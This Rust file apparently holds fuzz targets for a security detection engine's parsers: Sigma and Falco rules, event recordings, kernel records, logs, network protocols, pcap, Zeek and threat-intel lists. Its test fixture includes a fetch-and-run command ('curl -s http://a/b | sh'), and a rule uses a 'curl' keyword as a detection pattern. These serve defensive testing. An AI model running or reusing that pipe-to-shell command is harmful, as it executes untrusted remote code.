//! The targets: bytes in, a panic where an answer is wrong.
//!
//! Beside "no crash", each holds what it reads against something: what was written is read back the same, what the index of
//! rules says is what every rule says, a place stands in the text that it is of.

use crate::lines::Lines;
use crate::matching::{Events, Next};
use crate::request::FromEngine;
use detect::intel::{Builder, Indicator};
use detect::joined::{Correlations, Noted};
use detect::plain::{EventRules, JsonRules, JsonScratch};
use detect::{Config, Placeholders};
use event::{Event, Field, WallTime, recording};
use flow::{Limits, Table};
use sense::capture::{Capture, Layer3, layer3};
use sense::follow::Splitter;
use sense::kernel::Decoder;
use sense::logs::{Clock, Executions, MESSAGE_BYTES, Parser};
use sense::traffic::Traffic;
use sense::zeek::{self, Logs};
use std::sync::OnceLock;
use std::time::Duration;
use strategy::sigma::{Item, read_str};
use wire::{
    Direction, Identifier, Protocol, Transport, commands, dns, http, http2, icmp, mqtt, packet, quic, rtp,
    ssh, tls,
};

/// Every target, by name.
pub const ALL: &[(&str, fn(&[u8]))] = &[
    ("document", document),
    ("rule", rule),
    ("falco", falco),
    ("condition", condition),
    ("event_line", event_line),
    ("json_event", json_event),
    ("link", link),
    ("record", record),
    ("audit", audit),
    ("logs", logs),
    ("protocol", protocol),
    ("message", message),
    ("http2", two_sides),
    ("capture", capture),
    ("traffic", traffic),
    ("zeek", zeek),
    ("intel", intel),
];

/// Events that rules are asked about: values of every kind, nested, and none.
const ASKED: [&str; 4] = [
    r#"{"s":"abc","t":5,"f":null,"CommandLine":"curl -s http://a/b | sh","a":{"b":[1,"x",{"c":true}]},"Image":"/bin/sh"}"#,
    r#"{"f":"","time":"2026-01-31T10:20:30Z","ip":"10.1.2.3","list":[["q"],[]],"n":-4.50}"#,
    r##"{"Event":{"System":{"EventID":1,"Provider":{"#attributes":{"Name":"p"}}},"EventData":{"Image":"C:\\a.exe"}}}"##,
    "{}",
];

/// A strategy document: Markdown, front matter and every block in it.
fn document(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let (strategies, diagnostics) = strategy::load(&[("fuzz.md".to_owned(), text)]);
    for diagnostic in &diagnostics {
        assert!(!diagnostic.render().is_empty());
    }
    let _ = detect::Engine::new(&strategies, &Config::default());
}

/// A file of Falco rules: read, compiled over JSON and over typed events, asked.
fn falco(bytes: &[u8]) {
    let set = strategy::falco::load_bytes(bytes);
    let (rules, _) = JsonRules::with_falco(&[], &set.rules, &Placeholders::new());
    let _ = EventRules::with_falco(&[], &set.rules, &Placeholders::new());
    for event in ASKED {
        agree(&rules, event.as_bytes());
    }
}

/// Sigma documents: read, compiled over JSON and over typed events, asked, joined.
fn rule(bytes: &[u8]) {
    let (items, _) = read_str(&String::from_utf8_lossy(bytes));
    let (rules, _) = JsonRules::new(&items, &Placeholders::new());
    let _ = EventRules::new(&items, &Placeholders::new());
    let _ = Correlations::<Noted>::new(&items, &Config::default());
    for event in ASKED {
        agree(&rules, event.as_bytes());
    }
}

/// A condition over searches that hold, do not hold, and begin with an underscore.
fn condition(bytes: &[u8]) {
    let condition = serde_json::to_string(&String::from_utf8_lossy(bytes)).expect("text is JSON");
    let (items, _) = read_str(&format!(
        "title: t\nlogsource: {{category: test}}\ndetection:\n  s: {{s: abc}}\n  sel_a: {{t: 6}}\n  sel_b: {{t: 5}}\n  \
         _u: {{f: x}}\n  words: [curl]\n  condition: {condition}\n"
    ));
    let (rules, _) = JsonRules::new(&items, &Placeholders::new());
    for event in ASKED {
        agree(&rules, event.as_bytes());
    }
}

/// A line of a recording: what is read is written and read again as it was, and every field of it can be read.
fn event_line(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let _ = recording::Head::parse(&text);
    let Ok(event) = recording::from_line(&text) else { return };
    let line = recording::to_line(&event).expect("an event can be written");
    let again = recording::from_line(&line).expect("what we wrote can be read");
    assert_eq!(recording::to_line(&again).ok(), Some(line));
    read_fields(&event);
}

/// JSON events as `match` reads them from a stream that comes in pieces.
fn json_event(bytes: &[u8]) {
    static RULES: OnceLock<JsonRules> = OnceLock::new();
    let rules = RULES.get_or_init(|| {
        let items: Vec<Item> = crate::seeds::rules().iter().flat_map(|text| read_str(text).0).collect();
        JsonRules::new(&items, &Placeholders::new()).0
    });
    let mut scratch = JsonScratch::default();
    let mut events = Events::new(Pieces(bytes));
    loop {
        let next = events.next(|event| {
            let (_, length) = rules.judge(event, &mut scratch)?;
            agree(rules, event.get(..length).expect("a length inside the event"));
            Ok(length)
        });
        match next.expect("reading from memory") {
            Next::Event => {}
            Next::Broken { at, .. } => assert!(at < bytes.len() as u64),
            Next::End => break,
        }
    }
}

/// What the processes of `watch` say to each other.
fn link(bytes: &[u8]) {
    let mut lines = Lines::new(Pieces(bytes));
    while !lines.ended() {
        lines.read(|event: Event| read_fields(&event)).expect("reading from memory");
    }
    let mut lines = Lines::new(Pieces(bytes));
    while lines.first::<FromEngine>().is_ok() {}
}

/// A record of the kernel's rings. Half of the inputs get a length that fits, so that more of them are looked into.
fn record(bytes: &[u8]) {
    let mut record = bytes.to_vec();
    let length = u32::try_from(record.len()).unwrap_or(u32::MAX).to_ne_bytes();
    let is_fitted = record.len() % 2 == 0;
    if let Some(field) = record.get_mut(4..8).filter(|_| is_fitted) {
        field.copy_from_slice(&length);
    }
    let mut decoder = Decoder::new(Duration::from_secs(100), Duration::from_secs(1_700_000_000));
    let mut events = Vec::new();
    if decoder.decode(&record, &mut events).is_err() {
        assert!(events.is_empty(), "a record that is refused gives no event");
    }
    for event in &events {
        read_fields(event);
        let line = recording::to_line(event).expect("an event can be written");
        recording::from_line(&line).expect("what we wrote can be read");
    }
}

/// A line of a Kubernetes audit log.
fn audit(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let _ = sense::kubernetes_audit::is_audit_line(&text);
    for event in sense::kubernetes_audit::events(&text).into_iter().flatten() {
        read_fields(&event);
    }
}

/// Lines of system logs, as they stand in a file: cut into lines however they come, and each of bounded length.
fn logs(bytes: &[u8]) {
    let clock = || Clock::recorded(WallTime(u64::MAX / 2));
    let read = |chunk: usize| {
        let mut parser = Parser::new(&[], clock(), Executions::Told).expect("no patterns of our own");
        let (mut split, mut events) = (Splitter::new(4096), Vec::new());
        let mut take = |line: &[u8]| {
            let text = String::from_utf8_lossy(line);
            let _ = sense::logs::is_log_line(&text);
            parser.read(&text, None, &mut events);
        };
        bytes.chunks(chunk).for_each(|chunk| split.take(chunk, &mut take));
        split.finish(&mut take);
        parser.finish(&mut events);
        events
    };
    let events = read(bytes.len().max(1));
    assert_eq!(read(7), events, "lines do not hang on how they are read");
    for event in &events {
        read_fields(event);
        if let event::Kind::Log(record) = &event.kind {
            assert!(record.message.as_str().len() <= MESSAGE_BYTES);
        }
    }
}

/// Packets, DNS and the first bytes of connections.
fn protocol(bytes: &[u8]) {
    let _ = (dns::parse(bytes), dns::split_frame(bytes), packet::parse(bytes));
    let _ = (http::head(bytes), rtp::header(bytes));
    if let Ok(hello) = tls::client_hello(bytes) {
        assert!(hello.incomplete.is_some() || hello.ja4(tls::Carrier::Tcp).is_some());
    }
    if let Some(found) = wire::session::command_text(bytes) {
        assert!(bytes.get(found.span).is_some(), "a place inside the bytes");
    }
    for transport in [Transport::Tcp, Transport::Udp] {
        let mut identifier = Identifier::new(transport);
        let (client, server) = bytes.split_at(bytes.len() / 2);
        identifier.feed(Direction::ToServer, client);
        identifier.feed(Direction::ToClient, server);
        assert!(identifier.verdict().confidence <= 100);
    }
}

/// First messages: QUIC, the server of TLS and its certificate, SSH, commands, MQTT, echo. What is kept has its bounds.
fn message(bytes: &[u8]) {
    let mut client = quic::Client::default();
    let (first, second) = bytes.split_at(bytes.len() / 2);
    for datagram in [bytes, first, second] {
        client.take(datagram);
        assert!(client.handshake().len() <= quic::MAX_CRYPTO_BYTES, "handshake bytes");
    }
    if let Some(flight) = tls::server_flight(bytes) {
        assert!(flight.certificate.is_none() || !flight.incomplete);
    }
    let _ = tls::is_hello_over(bytes);
    let _ = (tls::certificate(bytes), tls::is_flight_over(bytes), mqtt::connect(bytes));
    for direction in [Direction::ToServer, Direction::ToClient] {
        let _ = ssh::opening(bytes, direction);
    }
    for protocol in Protocol::all() {
        if let Some(found) = commands::commands(protocol, bytes) {
            assert!(found.user.is_none_or(|user| user.len() <= 4 * commands::MAX_NAME_BYTES));
        }
    }
    for is_v6 in [false, true] {
        let _ = icmp::echo(bytes, is_v6).map(|echo| echo.is_usual());
    }
}

/// Both sides of HTTP/2: whole or in pieces, the messages are the same.
fn two_sides(bytes: &[u8]) {
    for direction in [Direction::ToServer, Direction::ToClient] {
        let read = |piece_bytes: usize| {
            let (mut side, mut found) = (http2::Side::new(direction), Vec::new());
            bytes.chunks(piece_bytes).for_each(|piece| side.take(piece, &mut |message| found.push(message)));
            (found, side.error())
        };
        assert_eq!(read(usize::MAX), read(7), "pieces of seven bytes");
    }
}

/// A capture file, its frames, and the flows of a table that may hold little: no packet is counted twice.
fn capture(bytes: &[u8]) {
    let Ok(mut capture) = Capture::new(std::io::Cursor::new(bytes.to_vec())) else { return };
    let mut table = Table::new(Limits { max_bytes: 8192, seed: 0 });
    while let Ok(Some(packet)) = capture.next_packet() {
        if let Layer3::Ip(packet_bytes) = layer3(packet.link, packet.frame) {
            table.packet(packet.time_ns, packet_bytes);
        }
    }
    table.finish();
    let flows = std::iter::from_fn(|| table.pop());
    let packets: u64 =
        flows.map(|flow| u64::from(flow.sent.packets) + u64::from(flow.received.packets)).sum();
    assert_eq!(packets, table.counts().in_flows, "packets of flows");
}

/// The index of the rules leaves out none that holds.
fn agree(rules: &JsonRules, event: &[u8]) {
    let mut scratch = JsonScratch::default();
    let Ok((matched, _)) = rules.judge(event, &mut scratch) else { return };
    let each = rules.judge_each(event).expect("what was judged can be judged");
    assert_eq!(matched, each, "the index and asking each rule");
}

fn read_fields(event: &Event) {
    for field in Field::ALL {
        let _ = event::field::value(event, *field);
    }
}

/// Bytes that come a few at a time.
struct Pieces<'b>(&'b [u8]);

impl std::io::Read for Pieces<'_> {
    fn read(&mut self, into: &mut [u8]) -> std::io::Result<usize> {
        const PIECE: usize = 61;
        let count = self.0.len().min(PIECE).min(into.len());
        let (now, later) = self.0.split_at(count);
        if let Some(into) = into.get_mut(..count) {
            into.copy_from_slice(now);
        }
        self.0 = later;
        Ok(count)
    }
}

/// A capture to events: each is written and read back the same, and has a place in time.
fn traffic(bytes: &[u8]) {
    let Ok(capture) = Capture::new(std::io::Cursor::new(bytes.to_vec())) else { return };
    let mut traffic = Traffic::new(capture, Limits { max_bytes: 1 << 16, seed: 0 });
    for _ in 0..2 {
        while let Ok(Some(event)) = traffic.next_event() {
            read_back(&event);
        }
    }
    assert!(matches!(traffic.next_event(), Ok(None)), "an error is told once");
}

/// Logs of Zeek to events, whatever they begin with: in the order of their times.
fn zeek(bytes: &[u8]) {
    let _ = zeek::recognise(&String::from_utf8_lossy(bytes));
    let input: Box<dyn std::io::BufRead> = Box::new(std::io::Cursor::new(bytes.to_vec()));
    let mut logs = Logs::new(vec![("fuzz".to_owned(), input, None)]);
    let mut last = 0;
    loop {
        match logs.next_event() {
            Ok(Some(event)) => {
                assert!(event.boot.0 >= last, "in the order of their times");
                last = event.boot.0;
                read_back(&event);
            }
            Ok(None) => return,
            Err(error) => assert!(!error.to_string().is_empty()),
        }
    }
}

/// A list of what is known to be bad, as lines and as JSON: what was taken is found again, and nothing is counted twice.
fn intel(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let mut builder = Builder::new();
    builder.begin("lines");
    (1..).zip(text.lines()).for_each(|(number, line)| builder.line(number, line));
    builder.begin("json");
    builder.json(bytes);
    let (set, reports) = builder.finish();
    let taken: u64 = reports.iter().map(|report| report.indicators).sum();
    assert!(u64::try_from(set.len()).is_ok_and(|kept| kept <= taken), "more indicators than were taken");
    for word in text.split_whitespace() {
        let alone = |word: &str| {
            let mut builder = Builder::new();
            builder.begin("one");
            builder.line(1, word);
            builder.finish().0
        };
        let found = match detect::intel::indicator(word) {
            Ok(Indicator::Address(ip, port)) => alone(word).address(ip, port.unwrap_or(1)).is_some(),
            Ok(Indicator::Name(name)) => alone(word).name(&name).is_some(),
            // A separator of CSV may stand in what else is an indicator.
            _ => true,
        };
        assert!(found || word.contains([',', ';', '\t']), "an indicator is found: {word}");
    }
}

/// What was written is read back the same; every field can be asked.
fn read_back(event: &Event) {
    let line = recording::to_line(event).expect("an event is JSON");
    assert_eq!(&recording::from_line(&line).expect("what was written is read"), event);
    read_fields(event);
}
